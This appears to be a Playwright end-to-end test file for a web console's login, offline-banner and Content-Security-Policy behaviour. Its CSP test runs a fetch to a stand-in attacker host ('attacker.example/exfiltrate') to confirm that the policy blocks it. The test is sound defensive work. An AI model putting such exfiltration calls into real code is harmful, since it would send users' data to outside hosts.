import type { Page } from '@playwright/test'
import { mockServerOrigin } from './servers'
import { expect, test } from './fixtures'

/**
 * Serves console-config.json pointing at `apiBaseUrl`. The preview server allows these Gateways in
 * its CSP (CONSOLE_CSP_CONNECT_SRC in playwright.config.ts), as an operator's server would.
 */
async function pointConsoleAt(page: Page, apiBaseUrl: string) {
  await page.route('**/console-config.json', (route) =>
    route.fulfill({ json: { apiMode: 'real', apiBaseUrl } }),
  )
}

test('in real-API mode the console talks to a Gateway over HTTP, with no demo backend', async ({ page }) => {
  // The deployed console-config.json decides the mode; here it points at `npm run mock:serve`.
  await pointConsoleAt(page, mockServerOrigin)
  const apiCalls: string[] = []
  page.on('request', (request) => {
    if (request.url().startsWith(mockServerOrigin))
      apiCalls.push(`${request.method()} ${new URL(request.url()).pathname}`)
  })

  await page.goto('/login?next=%2Fenvironments')
  await expect(page.getByRole('heading', { name: 'Demo backend users' })).toHaveCount(0)
  await page.getByLabel('Username').fill('alice')
  await page.getByLabel('Password').fill('alice')
  await page.getByRole('button', { name: 'Sign in', exact: true }).click()

  await expect(page.getByRole('link', { name: 'build-workers' })).toBeVisible()
  await expect(page.getByText('Demo backend')).toHaveCount(0)
  expect(apiCalls).toContain('POST /api/auth/login')
  expect(apiCalls).toContain('GET /api/environments')
  expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull()
})

test('an unreachable Gateway shows a banner with retry, never a blank page', async ({ page }) => {
  // Nothing listens on port 9: every call fails at the network level.
  await pointConsoleAt(page, 'http://127.0.0.1:9')
  await page.addInitScript(() => {
    sessionStorage.setItem(
      'asc.auth',
      JSON.stringify({ token: 'a.b.c', user: { userId: 'u1', username: 'alice', roles: ['developer'] } }),
    )
  })
  await page.goto('/environments')
  await expect(page.getByRole('heading', { name: 'Environments', level: 1 })).toBeVisible()
  const banner = page.getByRole('alert').filter({ hasText: 'The API is unreachable' })
  await expect(banner).toBeVisible({ timeout: 30_000 })
  await expect(banner.getByRole('button', { name: 'Retry now' })).toBeVisible()
  await expect(page.getByRole('alert').filter({ hasText: 'Could not reach the API' })).toBeVisible()
})

test('the console is served with a Content-Security-Policy that blocks other origins', async ({
  page,
  pageProblems,
}) => {
  // The blocked call below makes Chromium log the violation; this test asserts it itself.
  pageProblems.allowConsoleError(/https:\/\/attacker\.example\/exfiltrate/)
  const violations: string[] = []
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      void (window as unknown as { reportViolation: (t: string) => void }).reportViolation(
        `${event.violatedDirective} ${event.blockedURI}`,
      )
    })
  })
  const response = await page.goto('/login')
  const policy = response?.headers()['content-security-policy'] ?? ''
  expect(policy).toContain("script-src 'self'")
  expect(policy).toMatch(/connect-src 'self'[^;]*;/)
  expect(policy).not.toContain('attacker.example')
  await expect(page.getByRole('button', { name: 'Sign in as alice' })).toBeVisible()
  expect(violations, 'the console itself triggers no violation').toEqual([])
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('https://attacker.example/exfiltrate')
      return false
    } catch {
      return true
    }
  })
  expect(blocked).toBe(true)
  await expect.poll(() => violations.some((v) => v.startsWith('connect-src'))).toBe(true)
})
